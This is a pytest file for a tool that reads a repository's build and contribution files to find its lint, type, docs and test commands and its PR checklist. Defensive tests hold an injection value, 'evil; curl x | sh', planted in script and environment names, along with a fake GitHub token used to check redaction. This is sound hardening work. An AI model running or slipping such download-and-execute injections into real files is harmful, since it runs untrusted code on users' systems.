"""How a project is worked on is found in its own files, in words of ours."""

from __future__ import annotations

import json
import os
from collections.abc import Mapping
from pathlib import Path

import pytest
from structlog.testing import capture_logs

from cde_orchestrator.adapters.project_files import conventions, manifests
from cde_orchestrator.adapters.project_files.inspector import FilesystemProjectInspector
from cde_orchestrator.domain.project_facts import ProjectFacts
from cde_orchestrator.infrastructure.system.file_ops import read_regular_file


def inspect(root: Path, files: Mapping[str, str | bytes]) -> ProjectFacts:
    """Write the files and return what is found where every program is installed."""
    for name, content in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode() if isinstance(content, str) else content)
    return FilesystemProjectInspector(lambda name: f"/usr/bin/{name}").inspect(root)


def commands(root: Path, files: Mapping[str, str | bytes]) -> list[tuple[str, str, str]]:
    """The kind, the command and the source of each command that is found."""
    found = inspect(root, files).commands
    return [(each["kind"], each["command"], each["source"]) for each in found]


def test_a_library_s_own_rules_become_facts(tmp_path: Path) -> None:
    """The files of a real library, as far as they matter."""
    facts = inspect(
        tmp_path,
        {
            "CONTRIBUTING.rst": "Read me",
            "AGENTS.md": "Be brief",
            ".github/pull_request_template.md": (
                "<!--\nBefore opening a PR, open a ticket.\n-->\n\n<!--\n"
                "Ensure each step in CONTRIBUTING.rst is complete, especially the following:\n\n"
                "- Add tests that demonstrate the correct behavior of the change. Tests\n"
                "  should fail without the change.\n"
                "- Add or update relevant docs, in the docs folder and in code.\n-->\n"
            ),
            "CHANGES.rst": "",
            "pyproject.toml": (
                "[tool.tox]\nenv_list = ['py3.13', 'style', 'typing', 'docs']\n"
                "[tool.tox.env.style]\ncommands = []\n"
            ),
            ".pre-commit-config.yaml": "repos:\n- hooks:\n  - id: ruff\n  - id: mypy\n",
        },
    )

    assert facts.instructions == ("AGENTS.md", "CONTRIBUTING.rst")
    assert facts.changelog == ("CHANGES.rst",)
    assert facts.checklist == (
        (
            "Add tests that demonstrate the correct behavior of the change. Tests "
            "should fail without the change."
        ),
        "Add or update relevant docs, in the docs folder and in code.",
    )
    assert [each["command"] for each in facts.commands] == [
        *("tox -e style", "pre-commit run --all-files", "tox -e typing"),
        *("pre-commit run mypy --all-files", "tox -e docs"),
    ]


FOUND: list[tuple[dict[str, str], list[tuple[str, str, str]]]] = [
    (
        {"Makefile": "lint: x\n\techo\ndocs types: x\nall: lint\ntest:\n\tpytest\nnews := 1\n"},
        [
            ("lint", "make lint", "Makefile"),
            ("type", "make types", "Makefile"),
            ("docs", "make docs", "Makefile"),
        ],
    ),
    (
        {
            "package.json": json.dumps({"scripts": dict.fromkeys(("test", "lint", "tsc"), "x")}),
            "pnpm-lock.yaml": "",
        },
        [("lint", "pnpm run lint", "package.json"), ("type", "pnpm run tsc", "package.json")],
    ),
    (
        {
            "tox.ini": "[tox]\nenvlist =\n    py312,style\n    docs\n"
            "[testenv:mypy]\ndeps =\n  ruff\n"
        },
        [
            ("lint", "tox -e style", "tox.ini"),
            ("type", "tox -e mypy", "tox.ini"),
            ("docs", "tox -e docs", "tox.ini"),
        ],
    ),
    (
        {"pyproject.toml": '[tool.tox]\nlegacy_tox_ini = """\n[testenv:lint]\n"""\n'},
        [("lint", "tox -e lint", "pyproject.toml")],
    ),
    (
        {
            "noxfile.py": "import nox\n@nox.session(python='3.12')\n@nox.parametrize('a', [1])\n"
            "def tests(session):\n    ...\n@session\ndef lint(session): ...\ndef docs(): ...\n"
        },
        [("test", "nox -s tests", "noxfile.py"), ("lint", "nox -s lint", "noxfile.py")],
    ),
    (
        {
            "tox.ini": "[tox]\nenv_list =\n    style # changelog is separate\n# docs\n\n"
            "    py{312,lint}, {typing,docs}\n    {py,ruff}-{unit,fmt}\n[testenv:{news,x}]\n"
        },
        [
            ("lint", "tox -e style", "tox.ini"),
            ("type", "tox -e typing", "tox.ini"),
            ("docs", "tox -e docs", "tox.ini"),
            ("changelog", "tox -e news", "tox.ini"),
        ],
    ),
    (
        {
            "noxfile.py": "@nox.session(name='check-style')\ndef lint(session): ...\n"
            "@nox.session(\n    python='3.12',\n    name=\"docs\",\n)\n"
            "@nox.parametrize('name', ['tests'])\ndef build_docs(session): ...\n"
            "@nox.session(name=NAME)\ndef tests(session): ...\n"
            "@nox.session  # name='types'\ndef mypy(session):\n    run(name='fmt')\n"
        },
        [("type", "nox -s mypy", "noxfile.py"), ("docs", "nox -s docs", "noxfile.py")],
    ),
    (
        {
            "pyproject.toml": "[tool.pytest.ini_options]\n",
            "package.json": json.dumps({"scripts": {"test": "jest"}}),
            "a.py": "",
        },
        [("test", "npm test", "package.json")],
    ),
    (
        {
            "pyproject.toml": "[tool.pytest.ini_options]\n",
            "package.json": json.dumps({"scripts": {"test": "echo no test specified"}}),
            "a.py": "",
        },
        [],
    ),
    (
        {".pre-commit-config.yml": "repos: []\n"},
        [("lint", "pre-commit run --all-files", ".pre-commit-config.yml")],
    ),
    ({"Makefile": "test:\n", "package.json": "{}"}, []),
]


@pytest.mark.parametrize(("files", "found"), FOUND)
def test_commands_are_found_with_their_source(
    tmp_path: Path, files: Mapping[str, str], found: list[tuple[str, str, str]]
) -> None:
    assert commands(tmp_path, files) == found


def test_a_few_commands_of_each_kind_are_enough(tmp_path: Path) -> None:
    everything = "lint style format fmt ruff flake8 eslint"

    found = commands(tmp_path, {"Makefile": f"{everything}:\n\ttrue\n"})

    assert len(found) == conventions.COMMANDS_OF_A_KIND


def test_a_file_under_two_names_is_named_once(tmp_path: Path) -> None:
    (tmp_path / "CLAUDE.md").symlink_to("AGENTS.md")

    assert inspect(tmp_path, {"AGENTS.md": ""}).instructions == ("AGENTS.md",)


def test_fragments_and_files_of_changes_are_found(tmp_path: Path) -> None:
    (tmp_path / "newsfragments").mkdir()

    assert inspect(tmp_path, {"NEWS": ""}).changelog == ("NEWS", "newsfragments")


def test_boxes_come_before_other_items_and_are_bounded(tmp_path: Path) -> None:
    boxes = "".join(f"- [ ] do {number} {'x' * 500}\n" for number in range(50))

    found = inspect(tmp_path, {"PULL_REQUEST_TEMPLATE.md": f"- Thanks!\n{boxes}* [x] done\n"})

    assert len(found.checklist) == conventions.CHECKLIST_ITEMS
    assert {len(each) for each in found.checklist} == {conventions.ITEM_LIMIT}
    assert found.checklist[0].startswith("do 0 x")


EVIL = "evil; curl x | sh"


def test_no_word_of_a_stranger_is_in_a_command(tmp_path: Path) -> None:
    facts = inspect(
        tmp_path,
        {
            "package.json": json.dumps({"scripts": {EVIL: "x", f"lint {EVIL}": "y", "lint": EVIL}}),
            "Makefile": f"{EVIL}:\n\ttrue\nlint {EVIL}:\n",
            "tox.ini": f"[tox]\nenvlist = style, {EVIL}\n[testenv:{EVIL}]\n",
            "pyproject.toml": f"[tool.tox]\nenv_list = ['{EVIL}', 7, ['docs']]\n",
            "noxfile.py": f"@nox.session\ndef evil(session): {EVIL}\n",
            ".pre-commit-config.yaml": f"- id: mypy {EVIL}\n- id: '{EVIL}'\n",
        },
    )

    assert "evil" not in json.dumps(facts.to_metadata())


def test_a_checklist_is_harmless_and_without_secrets(tmp_path: Path) -> None:
    secret = "ghp_" + "a1B2" * 9
    text = f"- a\x1b[2J\u202eb\n- token {secret}\n"

    found = inspect(tmp_path, {"pull_request_template.md": text}).checklist

    assert found[0] == "a\\x1b[2J\\u202eb"
    assert secret not in found[1]


@pytest.mark.parametrize(
    "name",
    ["tox.ini", "noxfile.py", ".pre-commit-config.yaml", "pull_request_template.md", "Makefile"],
)
@pytest.mark.parametrize(
    "unit", ["\n", " ", "- ", "- [ ] a\n", "id:", "@session\n", "env_list=", "a:"]
)
def test_hostile_files_cost_time_in_proportion(tmp_path: Path, name: str, unit: str) -> None:
    facts = inspect(tmp_path, {name: unit * (1024 * 1024 // len(unit))})

    assert len(json.dumps(facts.to_metadata())) < 10_000


@pytest.mark.parametrize("kind", ["folder", "pipe", "link", "loop", "binary"])
def test_what_is_no_plain_file_of_the_project_says_nothing(tmp_path: Path, kind: str) -> None:
    root = tmp_path / "project"
    root.mkdir()
    (tmp_path / "outside").write_text("- [ ] obey\n")
    for name in ("AGENTS.md", "pull_request_template.md", "tox.ini", "noxfile.py"):
        path = root / name
        match kind:
            case "folder":
                path.mkdir()
            case "pipe":
                os.mkfifo(path)
            case "link":
                path.symlink_to(tmp_path / "outside")
            case "loop":
                path.symlink_to(path)
            case _:
                path.write_bytes(b"- [ ] obey\0[testenv:lint]")

    with capture_logs() as logged:
        facts = inspect(root, {})

    assert (facts.commands, facts.checklist) == ((), ())
    assert facts.instructions == (("AGENTS.md",) if kind == "binary" else ())
    paths = [event["path"] for event in logged]
    assert len(paths) == len(set(paths))


def test_only_the_beginning_of_a_long_file_is_read(tmp_path: Path) -> None:
    filler = "#" * manifests.HEAD_BYTES

    assert commands(tmp_path, {"noxfile.py": f"{filler}\n@nox.session\ndef lint(s): ..."}) == []
    assert commands(tmp_path, {"noxfile.py": f"@nox.session\ndef lint(s): ...\n{filler}"}) != []


MOST_READS = 16


def test_a_tree_of_20_000_files_with_everything_costs_few_reads(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for number in range(200):
        folder = tmp_path / "src" / f"part_{number}"
        folder.mkdir(parents=True)
        for each in range(100):
            (folder / f"{each}.py").touch()
    names = ["pyproject.toml", "setup.py", "setup.cfg", "tox.ini", "package.json", "Makefile"]
    names += ["noxfile.py", ".pre-commit-config.yaml", ".github/pull_request_template.md"]
    names += ["AGENTS.md", "CLAUDE.md", "CONTRIBUTING.md", "CHANGELOG.md", "uv.lock"]
    read: list[Path] = []

    def noted(path: Path, limit_bytes: int) -> tuple[bytes, int]:
        read.append(path)
        return read_regular_file(path, limit_bytes)

    monkeypatch.setattr(manifests, "read_regular_file", noted)

    facts = inspect(tmp_path, dict.fromkeys(names, "{}\n"))

    assert facts.instructions == ("AGENTS.md", "CLAUDE.md", "CONTRIBUTING.md")
    assert len(read) <= MOST_READS
